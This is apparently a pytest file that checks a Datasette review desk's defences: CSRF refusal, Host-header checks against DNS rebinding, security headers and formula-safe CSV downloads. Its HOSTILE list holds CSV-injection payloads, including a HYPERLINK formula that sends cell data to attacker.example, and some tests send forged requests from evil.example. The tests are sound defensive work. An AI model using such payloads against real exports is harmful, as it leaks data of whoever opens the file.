"""The review UI refuses forged writes and foreign hosts, sends security headers and serves
formula-safe CSV (RELIABILITY T64-T67, issue 18).

Everything runs in-process through Datasette's ASGI client (Host ``localhost``); the browser
flow in test_serve.py shows that a real form submission still records its verdict.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import sqlite3
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from attribution.export.cells import FORMULA_PREFIXES

try:
    from test_export_fixtures import seed_database
except ImportError:  # tests/ became a package
    from tests.test_export_fixtures import seed_database

pytest.importorskip("datasette")

DESK = "/-/review/statements"
OURS = "http://localhost"
EVIL = "https://evil.example"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "@SUM(1)",
    "-2+3",
    "+1",
    "\tindented",
    "\rreturn",
    "=1+1\nsecond line, with a comma",
]
REQUIRED_HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options")


@pytest.fixture()
def seeded(tmp_path: Path) -> Path:
    db = tmp_path / "attribution.db"
    seed_database(db)
    return db


def statement_ids(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return [row[0] for row in conn.execute("SELECT id FROM statements ORDER BY id")]
    finally:
        conn.close()


def review_count(db: Path) -> int:
    conn = sqlite3.connect(db)
    try:
        return int(conn.execute("SELECT count(*) FROM reviews").fetchone()[0])
    finally:
        conn.close()


def run(db: Path, scenario: Callable[[Any], Awaitable[None]], **kwargs: Any) -> None:
    from attribution.desk.app import build_datasette

    ds = build_datasette(db, **kwargs)

    async def main() -> None:
        await ds.invoke_startup()
        await scenario(ds.client)

    asyncio.run(main())


def page_path(sid: str) -> str:
    """The statement's page on the review desk, which holds the verdict form."""
    return f"{DESK}/{sid}"


def form_path(sid: str) -> str:
    """Where the desk's verdict form posts."""
    return f"{DESK}/{sid}/verdict"


async def form_token(client: Any, sid: str) -> tuple[str, str]:
    """(cookie, form token) as a browser gets them by opening the statement's page."""
    page = await client.get(page_path(sid))
    assert page.status_code == 200
    cookie = page.cookies.get("ds_csrftoken")
    token = re.search(r'name="csrftoken" value="([^"]+)"', page.text)
    assert cookie and token
    return cookie, token.group(1)


def verdict(sid: str, **extra: str) -> dict[str, str]:
    return {"statement_id": sid, "status": "false", "note": "forged", "reviewer": "mallory", **extra}


# --------------------------------------------------------------------------- CSRF (item 5)


def test_forged_writes_are_refused_and_write_nothing(seeded: Path) -> None:
    """T64: a cookie-less POST (also from Origin evil.example) recorded a verdict under any name."""
    sid = statement_ids(seeded)[0]

    async def scenario(client: Any) -> None:
        cookie, token = await form_token(client, sid)
        forged = [
            ({}, {}),  # no cookies, no token, no origin: what curl or a script sends
            ({"origin": EVIL}, {}),
            ({"origin": "null"}, {}),
            ({"origin": EVIL}, {"csrftoken": token}),
            ({"origin": EVIL, "cookie": f"ds_csrftoken={cookie}"}, {"csrftoken": token}),
            ({"referer": f"{EVIL}/page", "cookie": f"ds_csrftoken={cookie}"}, {"csrftoken": token}),
            ({"origin": OURS}, {"csrftoken": token}),  # token without its cookie
            ({"origin": OURS, "cookie": f"ds_csrftoken={cookie}"}, {}),  # cookie without the token
            ({"origin": OURS, "cookie": f"ds_csrftoken={cookie}"}, {"csrftoken": "x" + token}),
            ({"origin": OURS, "cookie": f"ds_csrftoken={cookie}", "authorization": "Bearer x"}, {}),
            ({"cookie": f"ds_csrftoken={cookie}"}, {"csrftoken": token}),  # neither Origin nor Referer
            ({"origin": OURS, "cookie": "ds_csrftoken=made-up"}, {"csrftoken": "made-up"}),  # unsigned pair
            ({"origin": OURS, "cookie": "ds_csrftoken=made-up", "x-csrftoken": "made-up"}, {}),
        ]
        for headers, extra in forged:
            response = await client.post(form_path(sid), data=verdict(sid, **extra), headers=headers)
            assert response.status_code == 403, (headers, extra, response.status_code, response.text)
            assert "Traceback" not in response.text
        assert review_count(seeded) == 0

        json_body = await client.post(
            form_path(sid), json=verdict(sid), headers={"origin": OURS, "cookie": f"ds_csrftoken={cookie}"}
        )
        assert json_body.status_code == 403
        assert review_count(seeded) == 0

        # The form as a browser submits it: same origin, cookie and token.
        ok = await client.post(
            form_path(sid),
            data=verdict(sid, csrftoken=token, reviewer="desk"),
            headers={"origin": OURS, "cookie": f"ds_csrftoken={cookie}"},
        )
        assert ok.status_code == 302, ok.text
        referred = await client.post(
            form_path(sid),
            data=verdict(sid, csrftoken=token, reviewer="desk", status="misleading"),
            headers={"referer": f"{OURS}{page_path(sid)}", "cookie": f"ds_csrftoken={cookie}"},
        )
        assert referred.status_code == 302, referred.text

    run(seeded, scenario)
    conn = sqlite3.connect(seeded)
    try:
        assert conn.execute("SELECT status, reviewer FROM reviews ORDER BY id").fetchall() == [
            ("false", "desk"),
            ("misleading", "desk"),
        ]
    finally:
        conn.close()


# --------------------------------------------------------------------------- Host header (item 6)


def test_foreign_host_header_is_refused(seeded: Path) -> None:
    """T65: DNS rebinding: a page on evil.example resolved to 127.0.0.1 was answered."""
    sid = statement_ids(seeded)[0]

    async def scenario(client: Any) -> None:
        for host in ("evil.example", "evil.example:8001", "127.0.0.1.evil.example", "localhost.evil.example"):
            page = await client.get("/attribution/statements", headers={"host": host})
            assert page.status_code == 400, host
            assert "Datasette" not in page.text and "statements" not in page.text
            post = await client.post(
                form_path(sid), data=verdict(sid), headers={"host": host, "origin": f"http://{host}"}
            )
            assert post.status_code == 400
        for host in ("localhost", "127.0.0.1:8001", "[::1]:8001", "LOCALHOST:9"):
            assert (await client.get("/attribution", headers={"host": host})).status_code == 200, host
        assert review_count(seeded) == 0

    run(seeded, scenario)


def test_the_host_served_on_is_allowed(seeded: Path) -> None:
    async def scenario(client: Any) -> None:
        assert (await client.get("/attribution", headers={"host": "review.example:8001"})).status_code == 200
        assert (await client.get("/attribution", headers={"host": "other.example"})).status_code == 400

    run(seeded, scenario, host="review.example")


def test_allowed_hosts_for_listening_addresses() -> None:
    import socket

    from attribution.serve import allowed_hosts, host_name

    assert allowed_hosts() == {"localhost", "127.0.0.1", "::1"}
    assert "10.0.0.5" in allowed_hosts("10.0.0.5")
    assert socket.gethostname().lower() in allowed_hosts("0.0.0.0")
    assert [host_name(h) for h in ("a.example:80", "[::1]:8001", "::1", "A.Example")] == [
        "a.example",
        "::1",
        "::1",
        "a.example",
    ]


# --------------------------------------------------------------------------- CSV downloads (item 7)


def add_hostile_reviews(db: Path) -> list[str]:
    from attribution.review import record_review
    from attribution.store import connect

    sids = statement_ids(db)
    database = connect(db)
    try:
        for sid, text in zip(sids * len(HOSTILE), HOSTILE, strict=False):
            record_review(database, sid, "false", note=text, reviewer=text)
    finally:
        database.close()
    return sids


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_formula_safe(records: list[list[str]]) -> None:
    for record in records:
        for cell in record:
            if cell.startswith(FORMULA_PREFIXES):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), (cell, record)


def test_csv_downloads_from_the_ui_are_formula_safe(seeded: Path) -> None:
    """T66: statements.csv and reviews.csv served live formulas (=, +, -, @, tab, CR)."""
    add_hostile_reviews(seeded)

    async def scenario(client: Any) -> None:
        for path in (
            "/attribution/reviews.csv",
            "/attribution/reviews.csv?_stream=on",
            "/attribution/reviews.csv?_dl=1&_size=2",
            "/attribution/current_reviews.csv",
            "/attribution/statements.csv?_stream=on",
            "/attribution.csv?sql=select+note,+reviewer,+-3+as+minus+from+reviews",
        ):
            response = await client.get(path)
            assert response.status_code == 200, path
            records = parsed(response.text)
            assert len(records) > 1, path
            assert_formula_safe(records)
        notes = [r[0] for r in parsed((await client.get("/attribution.csv?sql=select+note+from+reviews")).text)[1:]]
        assert notes == ["'" + text for text in HOSTILE]  # exactly the export rule
        minus = parsed((await client.get("/attribution.csv?sql=select+-3+as+n,+-2.5+as+x")).text)
        assert minus == [["n", "x"], ["-3", "-2.5"]]  # numbers stay numbers

    run(seeded, scenario)


def test_streamed_csv_is_rewritten_across_chunk_boundaries() -> None:
    """A record (and a UTF-8 character) split between two body messages is still neutralised whole."""
    from attribution.serve import _safe_csv_send

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    body = 'a,b\r\n"=1+1,\r\nx",\u2018q\u2019\r\n@x,-7\r\n'.encode()
    cut = body.index("\u2018".encode()) + 1  # inside the curly quote's bytes

    async def main() -> None:
        wrapped = _safe_csv_send(send)
        await wrapped(
            {"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/csv; charset=utf-8"),
             (b"content-length", str(len(body)).encode())]}
        )  # fmt: skip
        for part in (body[:9], body[9:cut], body[cut:]):
            await wrapped({"type": "http.response.body", "body": part, "more_body": True})
        await wrapped({"type": "http.response.body", "body": b"", "more_body": False})

    asyncio.run(main())
    assert all(k != b"content-length" for k, _ in sent[0]["headers"])
    text = b"".join(m.get("body", b"") for m in sent[1:]).decode("utf-8")
    assert parsed(text) == [["a", "b"], ["'=1+1,\r\nx", "\u2018q\u2019"], ["'@x", "-7"]]


# --------------------------------------------------------------------------- headers and unknown POSTs (item 8)


def test_every_page_has_security_headers(seeded: Path) -> None:
    """T67: no Content-Security-Policy, frame-ancestors or nosniff on any page."""
    sid = statement_ids(seeded)[0]

    async def scenario(client: Any) -> None:
        responses = [
            await client.get(path)
            for path in (
                "/",
                "/attribution",
                "/attribution/statements",
                "/attribution/speech_statements?_review_status=new",
                "/attribution/statements.json",
                "/attribution/reviews.csv",
                page_path(sid),
                "/-/review",
                f"/attribution/statements/{sid}",
                "/-/static/app.css",
                "/no/such/page",
                "/-/versions",
            )
        ]
        responses.append(await client.get("/attribution", headers={"host": "evil.example"}))
        responses.append(await client.post("/attribution/statements", data={"a": "1"}))
        responses.append(await client.post(form_path(sid), data=verdict(sid)))
        for response in responses:
            for name in REQUIRED_HEADERS:
                assert response.headers.get(name), (response.url, name)
            assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
            assert response.headers["x-frame-options"] == "DENY"
            assert response.headers["x-content-type-options"] == "nosniff"

    run(seeded, scenario)


def test_posts_to_unknown_paths_are_404_or_405_never_500(seeded: Path) -> None:
    """T67: POST /attribution/statements raised inside Datasette (500, traceback on the console)."""

    async def scenario(client: Any) -> None:
        for path in (
            "/",
            "/nope",
            "/attribution",
            "/attribution/statements",
            "/attribution/statements.json",
            "/attribution/nope",
            "/attribution/statements/-/insert",
            "/attribution/-/create",
            "/-/messages",
            "/-/static/app.css",
            "/-/review",
            f"{DESK}/{'0' * 16}",
            f"{form_path('0' * 16)}.json",
        ):
            for method in ("POST", "PUT", "DELETE", "PATCH"):
                response = await client.request(method, path, data={"a": "1"})
                assert response.status_code in (404, 405), (method, path, response.status_code)
                assert "Traceback" not in response.text
        assert review_count(seeded) == 0

    run(seeded, scenario)


def test_csv_rewrite_property_any_text_any_chunking() -> None:
    """T66 over generated strings: no cell starts a formula, each cell is the export rule applied
    (plain numbers kept), and where the body is cut into messages does not matter."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from attribution.serve import _safe_csv_send, safe_csv_cell, safe_csv_text

    cell = st.one_of(
        st.text(alphabet=st.sampled_from("=+-@\t\r\n\0\",;' a1.\u2018\u00e9\U0001f600"), max_size=12),
        st.text(max_size=8),
        st.integers().map(str),
    )

    @settings(max_examples=300, deadline=None)
    @given(st.lists(st.lists(cell, min_size=1, max_size=4), min_size=1, max_size=6), st.lists(st.integers(0, 400)))
    def check(records: list[list[str]], cuts: list[int]) -> None:
        out = io.StringIO()
        csv.writer(out).writerows(records)
        original = out.getvalue()
        whole = safe_csv_text(original)
        back = parsed(whole)
        assert_formula_safe(back)
        assert back == [[safe_csv_cell(c) for c in r] for r in parsed(original)]

        body = original.encode("utf-8")
        points = sorted({min(c, len(body)) for c in cuts} | {0, len(body)})
        sent: list[bytes] = []

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.body":
                sent.append(message["body"])

        async def main() -> None:
            wrapped = _safe_csv_send(send)
            await wrapped({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/csv")]})
            for start, end in zip(points, points[1:], strict=False):
                await wrapped({"type": "http.response.body", "body": body[start:end], "more_body": True})
            await wrapped({"type": "http.response.body", "body": b"", "more_body": False})

        asyncio.run(main())
        assert b"".join(sent).decode("utf-8") == whole

    check()


def test_errors_print_no_traceback_with_locals(seeded: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """T67: every 404 printed a rich traceback with local variables (request headers, cookies) on the console."""

    async def scenario(client: Any) -> None:
        missing = await client.get("/no/such/page", headers={"cookie": "ds_csrftoken=secret-cookie-value"})
        assert missing.status_code == 404 and "Database not found" in missing.text
        assert "<html" in missing.text and "Traceback" not in missing.text
        as_json = await client.get("/attribution/nope.json")
        assert as_json.status_code == 404 and as_json.json()["ok"] is False
        bad_sort = await client.get("/attribution/statements?_sort=nope")
        assert "Cannot sort table by nope" in bad_sort.text

    run(seeded, scenario)
    out, err = capfd.readouterr()
    assert "Traceback" not in out + err and "locals" not in out + err
    assert "secret-cookie-value" not in out + err
